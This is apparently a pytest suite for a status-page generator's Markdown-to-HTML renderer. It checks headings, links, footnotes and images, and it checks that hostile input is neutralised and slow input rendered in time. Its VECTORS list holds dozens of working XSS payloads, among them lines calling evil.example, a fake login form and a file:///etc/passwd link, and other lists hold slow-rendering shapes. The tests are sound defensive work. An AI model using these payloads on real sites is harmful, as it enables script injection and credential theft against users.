"""Markdown to HTML that can be trusted: what works, what never comes through, and how long it may take."""

from __future__ import annotations

import re
import signal
import threading
from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import urlsplit

import pytest

from statusgen.render import placing, prose
from tests.machine import within

from .published import Document, Element, read

LINKS = {
    "2026-11-20-api.md": "incidents/2026-11-20-api/",
    "graph.png": "incidents/graph.png",
    "img/graph.png": "incidents/img/graph.png",
}
ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "li": {"id"},
    "sup": {"id"},
}
BARE = {
    "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "p", "pre", "strong", "table", "tbody", "td", "th",
    "thead", "tr", "ul",
}  # fmt: skip


def html(text: str, root: str = "../../", prefix: str = "u1") -> str:
    return placing.place(prose.render(text, LINKS).html, root, root, prefix)


def page(text: str) -> Document:
    return read(html(text))


def plain(text: str) -> str:
    """Return the HTML without line breaks between elements."""
    return re.sub(r">\n+<", "><", html(text)).strip()


# What works


def test_paragraphs_emphasis_code_and_lists_work() -> None:
    assert plain("a *b* **c** `d`\n\n- e\n- f\n\n> g\n\n---") == (
        "<p>a <em>b</em> <strong>c</strong> <code>d</code></p>"
        "<ul><li>e</li><li>f</li></ul><blockquote><p>g</p></blockquote><hr>"
    )


def test_a_table_works() -> None:
    assert plain("| a | b |\n|:--|--:|\n| 1 | `2` |\n") == (
        "<table><thead><tr><th>a</th><th>b</th></tr></thead>"
        "<tbody><tr><td>1</td><td><code>2</code></td></tr></tbody></table>"
    )


@pytest.mark.parametrize("fence", ["```", "~~~~"])
def test_a_fenced_block_shows_what_is_in_it(fence: str) -> None:
    assert html(f"{fence}python\nif a < b & c:\n    *d*\n{fence}\n").strip() == (
        "<pre><code>if a &lt; b &amp; c:\n    *d*\n</code></pre>"
    )


def test_a_list_may_begin_where_it_was_left() -> None:
    assert plain("3. a\n4. b") == '<ol start="3"><li>a</li><li>b</li></ol>'


def test_a_footnote_leads_there_and_back() -> None:
    made = page("The pool[^1] was empty.\n\n[^1]: Of connections.\n")
    there, back = made.all("a")
    assert there.attributes["href"] == "#u1-fn:1"
    assert back.attributes["href"] == "#u1-fnref:1"
    assert made.one("li").attributes == {"id": "u1-fn:1"}
    assert made.one("sup").attributes == {"id": "u1-fnref:1"}


def test_footnotes_of_two_texts_on_a_page_are_kept_apart() -> None:
    text = "a[^1] b[^x] c[^1]\n\n[^1]: d\n[^x]: e\n"
    both = read(html(text, prefix="update-1") + html(text, prefix="2026-11-20-api"))
    ids = [each.attributes["id"] for each in both.elements if "id" in each.attributes]
    assert len(ids) == len(set(ids)) == 10
    assert {each.attributes["href"].removeprefix("#") for each in both.all("a")} == set(ids)


def test_text_that_looks_like_what_is_filled_in_stays_as_it_was_written() -> None:
    text = '`<li id="fn:1">` "id="fn:1" href="#fn:1"'
    assert page(text).one("p").text == '<li id="fn:1"> "id="fn:1" href="#fn:1"'


def test_nothing_is_rendered_from_nothing() -> None:
    assert html("") == ""


def test_the_same_text_makes_the_same_html() -> None:
    text = "# a\n\nb[^1] [c](2026-11-20-api.md)\n\n|d|e|\n|-|-|\n|f|g|\n\n[^1]: h\n"
    assert len({prose.render(text, LINKS).html for _ in range(5)}) == 1
    assert prose.render(text, LINKS) == prose.render(text, dict(reversed(LINKS.items())))


# Headings


@pytest.mark.parametrize(
    ("written", "levels"),
    [
        ("# a", "3"),
        ("### a", "3"),
        ("###### a", "3"),
        ("# a\n## b\n### c\n## d", "3454"),
        ("# a\n### b\n###### c\n# d", "3453"),
        ("## a\n#### b\n## c", "343"),
        ("### a\n# b", "33"),
        ("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6", "345666"),
        ("a\n=\n\nb\n-", "34"),
        ("> # a\n\n- ### b", "34"),
    ],
)
def test_headings_fit_below_the_pages_own_and_skip_no_level(written: str, levels: str) -> None:
    found = [int(each.tag[1]) for each in page(written).elements if re.fullmatch("h[1-6]", each.tag)]
    assert "".join(map(str, found)) == levels
    assert all(level <= before + 1 for before, level in zip([2, *found], found, strict=False))


# Links and images


@pytest.mark.parametrize(
    ("written", "href"),
    [
        ("[a](2026-11-20-api.md)", "../../incidents/2026-11-20-api/"),
        ("[a](./2026-11-20-api.md)", "../../incidents/2026-11-20-api/"),
        ("[a](2026-11-20-api.md#update-20261120T1006Z)", "../../incidents/2026-11-20-api/#update-20261120T1006Z"),
        ("[a][1]\n\n[1]: 2026-11-20-api.md", "../../incidents/2026-11-20-api/"),
        ("[a](graph.png)", "../../incidents/graph.png"),
        ("[a](https://example.org/b?c=d&e#f)", "https://example.org/b?c=d&e#f"),
        ("[a](HTTP://example.org)", "HTTP://example.org"),
        ("<https://example.org/>", "https://example.org/"),
        ("[a](mailto:help@example.org)", "mailto:help@example.org"),
        ("<help@example.org>", "mailto:help@example.org"),
    ],
)
def test_a_link_leads_to_where_it_is_on_the_site_or_outside(written: str, href: str) -> None:
    link = page(written).one("a")
    assert link.attributes["href"] == href
    assert link.attributes["rel"] == "noopener noreferrer"


@pytest.mark.parametrize("name", ["other.md", "../components.yaml", "/etc/passwd", "?a", "a b", "", "#main", "#fn"])
def test_a_link_to_what_is_not_on_the_site_is_text(name: str) -> None:
    assert "href" not in page(f"[a]({name})").one("a").attributes


def test_an_image_of_the_repository_is_shown() -> None:
    assert page('![Latency](graph.png "By hour") ![b](./img/graph.png)').all("img") == [
        Element("img", {"alt": "Latency", "src": "../../incidents/graph.png", "title": "By hour"}, ("p",)),
        Element("img", {"alt": "b", "src": "../../incidents/img/graph.png"}, ("p",)),
    ]


@pytest.mark.parametrize(
    "source",
    [
        "https://tracker.example/x.png",
        "//tracker.example/x.png",
        "data:image/png;base64,AAAA",
        "missing.png",
        "/graph.png",
        "https://site.invalid/incidents/graph.png",
        "graph.png?x",
    ],
)
def test_any_other_image_is_its_description(source: str) -> None:
    made = page(f"![What it shows]({source})")
    assert made.all("img") == []
    assert made.one("em").text == "What it shows"


def test_a_place_can_be_filled_in_for_every_page() -> None:
    once = prose.render("[a](2026-11-20-api.md) ![b](graph.png)", LINKS).html
    for root, home in (("./", "./"), ("../../", "../"), ("https://status.example.org/", "https://status.example.org/")):
        made = read(placing.place(once, root, home, "x"))
        assert made.one("a").attributes["href"] == f"{home}incidents/2026-11-20-api/"
        assert made.one("img").attributes["src"] == f"{root}incidents/graph.png"


# What never comes through


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<img src="graph.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    '<div style="position:fixed;inset:0">All systems operational</div>',
    '<div id="main" class="banner operational">All systems operational</div>',
    '<p id="checked" class="state operational">fine</p>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<a href=javascript:alert(1)>x</a>",
    "<a/href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](tel:123)",
    "[x](site:/evil)",
    "[x](view-source:https://example.org)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][1]\n\n[1]: <java script:alert(1)>",
    "<javascript:alert(1)>",
    "<javascript:alert(1)@example.org>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](graph.png)',
    '![x](graph.png" onerror="alert(1))',
    "![x](graph.png 'y\" onerror=\"alert(1)')",
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org "y" onclick="alert(1)")',
    "[x](https://example.org){: onclick=alert(1)}",
    "# x {onclick=alert(1)}",
    "x {: style=position:fixed .banner #main}",
    "{: onclick=alert(1)}\n# x",
    "```html\n<script>alert(1)</script>\n```",
    '``` {.banner onclick="alert(1)"}\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "x[^<script>]\n\n[^<script>]: y",
    "x[^main]\n\n[^main]: <script>alert(1)</script>",
    'x[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: y',
    "[x](#main)",
    "*[x]: <script>",
    "{{ 7 * 7 }} {% raw %} ${alert(1)}",
    "\x02klzzwxh:0000\x03 \x02amp\x03#106;",
    "\x00<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<b onmouseover=alert(1)>x</b>",
    "<p/onclick=alert(1)>x",
    "<x onclick=alert(1)>x</x>",
    "<math href=javascript:alert(1)>x</math>",
    "<isindex action=javascript:alert(1)>",
    "<a href=https://example.org target=_top download ping=//evil.example>x</a>",
    "- <script>alert(1)</script>\n  - <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
]


def problems(made: Document) -> Iterator[str]:
    """Yield what a browser could act on, or what could pass for the page's own."""
    yield from (f"</{tag}> is not balanced" for tag in made.unbalanced)
    for element in made.elements:
        if element.tag not in BARE | ALLOWED.keys():
            yield f"<{element.tag}>"
        yield from (f"{element.tag}.{name}" for name in element.attributes.keys() - ALLOWED.get(element.tag, set()))
        if "id" in element.attributes and not re.fullmatch(r"u1-fn(ref)?\d*:[\w-]+", element.attributes["id"]):
            yield f"id {element.attributes['id']}"
        yield from (f"to {address}" for address in _addresses(element) if not _is_fine(element.tag, address))


def _addresses(element: Element) -> list[str]:
    return [element.attributes[name] for name in ("href", "src") if name in element.attributes]


def _is_fine(tag: str, address: str) -> bool:
    if address.startswith("../../incidents/") or (tag == "a" and address.startswith("#u1-fn")):
        return True
    as_browsers_read_it = re.sub(r"[\x00-\x20]", "", address)
    return tag == "a" and urlsplit(as_browsers_read_it).scheme in ("http", "https", "mailto")


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_nothing_that_a_browser_could_act_on_comes_through(vector: str) -> None:
    for around in ("{}", "before\n\n{}\n\nafter", "*a* {} `b`", "- {}"):
        assert list(problems(page(around.replace("{}", vector)))) == []


def test_there_are_vectors_enough_and_each_is_another() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 40


def test_html_is_shown_as_it_was_written() -> None:
    assert page("a <b>bold</b> <script>c</script>").one("p").text == "a <b>bold</b> <script>c</script>"


def test_what_is_shown_as_written_is_escaped_too() -> None:
    text = "<script>alert(1)</script> & \"'\n" * 400
    made = page(text)
    assert [each.tag for each in made.elements] == ["pre"]
    assert made.one("pre").text == text


# How long it may take


def fill(unit: str, size: int = prose.MAX_BYTES) -> str:
    return (unit * (size // len(unit.encode()) + 1)).encode()[:size].decode("utf-8", "ignore")


UNITS = [
    "[", "![", "<![CDATA[", "[a](", "[a](<", '[a](b "', "[a][b]", "[]", "[^1]", "[^a]: x\n", "[^1]: x\n\n",
    "[a]: x\n\n", "<a ", "<!-- ", "<?", "<div>\n\n", "<a@b> ", "<http://a>", "# a\n", "# a\n\n", "a\n---\n\n",
    "===\n", "|a|b|\n", "|a|b|\n|-|-|\n\n", "|", "> ", "> a\n\n", "- ", "- a\n", "- a\n\n", "-\n\n", "1. a\n\n",
    "* a\n\n    b\n\n", "    a\n\n", "*", "**", "***a", "*a **b ", "_", "__a ", "`", "``a", "```\n", "```x\n\n",
    "~~~x\n\n", "~", "\\", "\\[", "&amp;", "&#1;", "a\n: b\n", "a\n\n: b\n\n", "\n", "\n\n", " ", "a", "é", "\x02",
    "*[a]: b\n", "x\n\n```\ny\n```\n\n",
]  # fmt: skip


@pytest.mark.parametrize("unit", UNITS, ids=repr)
def test_no_shape_of_64_kb_takes_long(unit: str) -> None:
    with within(seconds=2.5):
        assert html(fill(unit)) is not None


def _shapes_at_the_limits() -> Iterator[str]:
    """Yield what counting lets through, though only just."""
    for unit in ("[", "![", "[a](", "<", "<a ", "\\["):
        yield f"{unit * 299}\n\n" * 6
    for unit in ("`", "*", "_", "\\"):
        yield fill(f"{unit * 1_999}\n\n")
    yield "> " * 11 + "a\n\n" * 1_000
    yield "- " * 11 + "a\n\n" * 1_000
    yield ("# a\n" * 99 + "\n") * 10
    yield "~~~x\n\n" * 399 + fill("words of prose, ", 60_000)
    yield "a\n\n" * 2_990
    yield "".join(f"a[^{i}]\n\n[^{i}]: b\n\n" for i in range(900))


@pytest.mark.parametrize("text", [*_shapes_at_the_limits()], ids=lambda text: repr(text[:12]))
def test_what_is_just_within_the_limits_is_rendered_in_time(text: str) -> None:
    with within(seconds=2.5):
        made = html(text)
    assert made != f"<pre>{escape(text, quote=False)}</pre>"


@pytest.mark.parametrize(
    "text",
    [
        fill("a ", prose.MAX_BYTES + 1),
        fill("é", prose.MAX_BYTES + 2),
        "[" * 301,
        "<" * 301,
        ("[a] " * 200 + "\n\n") * 11,
        "a\n" * 2_002,
        "a\n\n" * 3_001,
        "~~~x\n\n" * 401,
        "> " * 12 + "a",
        " " * 64 + "a",
        "# a\n" * 101,
        "# a\n\n" * 1_001,
        "\\" * 2_001,
    ],
    ids=lambda text: repr(text[:12]),
)
def test_what_could_be_slow_is_shown_as_it_was_written(text: str) -> None:
    made = page(text)
    assert [each.tag for each in made.elements] == ["pre"]
    assert made.one("pre").text == text


def ordinary() -> str:
    """Return a post-mortem of almost 64 KB."""
    part = (
        "## What happened\n\nAt 10:02 a [release](2026-11-20-api.md) exhausted the *pool*[^1], so a fifth of requests\n"
        "failed with `503`.\n\n| When | What |\n|---|---|\n| 10:02 | Release |\n| 10:06 | Alarm |\n\n"
        "1. An alarm of the pool\n2. A test of an hour\n\n```sql\nselect count(*)\nfrom pool\nwhere busy;\n```\n\n"
        "The pool held a hundred connections. It was empty within forty minutes, and nobody had an alarm on it.\n\n"
    )
    return part * ((prose.MAX_BYTES - 100) // len(part)) + "[^1]: Of connections.\n"


def test_an_ordinary_post_mortem_of_the_largest_size_is_rendered() -> None:
    text = ordinary()
    assert len(page(text).all("table")) == text.count("|---|---|")


def test_it_is_counting_that_decides_and_not_a_clock_so_another_thread_gives_the_same() -> None:
    made: list[str] = []
    texts = ["[" * 301, "a[^1]\n\n[^1]: b", "> " * 14 + "a"]
    thread = threading.Thread(target=lambda: made.extend(html(text) for text in texts))
    thread.start()
    thread.join()
    assert made == [html(text) for text in texts]


def test_a_text_that_takes_longer_than_it_may_is_an_error_and_not_a_hang() -> None:
    before, rendered = signal.getsignal(signal.SIGVTALRM), html("**a** [b](2026-11-20-api.md)")
    with pytest.raises(prose.ProseError, match=r"^its text takes longer than 0\.01 s to render: make it simpler$"):
        prose.render(ordinary(), LINKS, seconds=0.01)
    assert html("**a** [b](2026-11-20-api.md)") == rendered  # what stopped halfway leaves nothing behind
    assert signal.getsignal(signal.SIGVTALRM) is before
    assert signal.getitimer(signal.ITIMER_VIRTUAL) == (0.0, 0.0)


def test_what_is_plain_is_rendered_as_markdown_would() -> None:
    letters = 'a: .\n-1!"é’/'
    texts = ["".join(text) for length in (1, 2, 3, 4) for text in product(letters, repeat=length)]
    plain = [text for text in texts if prose.is_plain(text)]
    assert len(plain) > 500
    for text in plain:
        assert prose.render(text, LINKS) == prose.render_markdown(text, LINKS)
